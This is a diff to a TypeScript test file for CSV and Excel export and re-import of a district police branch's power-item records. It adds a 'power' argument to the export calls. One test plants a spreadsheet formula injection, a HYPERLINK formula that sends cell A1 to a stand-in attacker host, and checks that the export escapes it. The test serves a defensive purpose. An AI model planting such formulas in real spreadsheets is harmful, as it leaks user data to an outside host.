@@ -61,7 +61,7 @@ describe('export and import again', () => {
   it('gives "unchanged" for every row of the department, in Excel and in CSV', async () => {
     expect(policeItems.length).toBeGreaterThan(10)
     for (const format of ['xlsx', 'csv'] as const) {
-      const file = (await exportDownload(db(), police.id, format))!
+      const file = (await exportDownload(db(), police.id, format, 'power'))!
       expect(file.fileName).toBe(`区公安分局-权力事项.${format}`)
       const report = await writesNothing(() => run(file.fileName, Buffer.from(file.body)))
       expect(report.errors).toEqual([])
@@ -76,10 +76,10 @@ describe('export and import again', () => {
     const injection = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
     await db().powerItem.update({ where: { id: target.id }, data: { contact: injection, fees: '+1 收费' } })
     try {
-      const csv = (await exportDownload(db(), police.id, 'csv'))!
+      const csv = (await exportDownload(db(), police.id, 'csv', 'power'))!
       expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`)
       expect(csv.body).toContain("'+1 收费")
-      const xlsx = (await exportDownload(db(), police.id, 'xlsx'))!
+      const xlsx = (await exportDownload(db(), police.id, 'xlsx', 'power'))!
       const cells = (await readSheetFile(xlsx.fileName, xlsx.body as Buffer)).find((r) => r.cells[0]!.text === target.code)!.cells
       expect(cells[HEADER.indexOf('咨询电话')]!.text).toBe(`'${injection}`)
       for (const file of [csv, xlsx]) {
@@ -92,7 +92,7 @@ describe('export and import again', () => {
   })
 
   it('exports nothing for a department that does not exist', async () => {
-    expect(await exportDownload(db(), 999_999, 'csv')).toBeNull()
+    expect(await exportDownload(db(), 999_999, 'csv', 'power')).toBeNull()
   })
 })
 
@@ -174,7 +174,7 @@ describe('a clean file', () => {
   let exported: string
   beforeAll(async () => {
     // The unchanged row is the item exactly as exported.
-    const csv = (await exportDownload(db(), police.id, 'csv'))!.body as string
+    const csv = (await exportDownload(db(), police.id, 'csv', 'power'))!.body as string
     exported = csv.split('\r\n').find((line) => line.startsWith(unchanged().code))!
   })
 
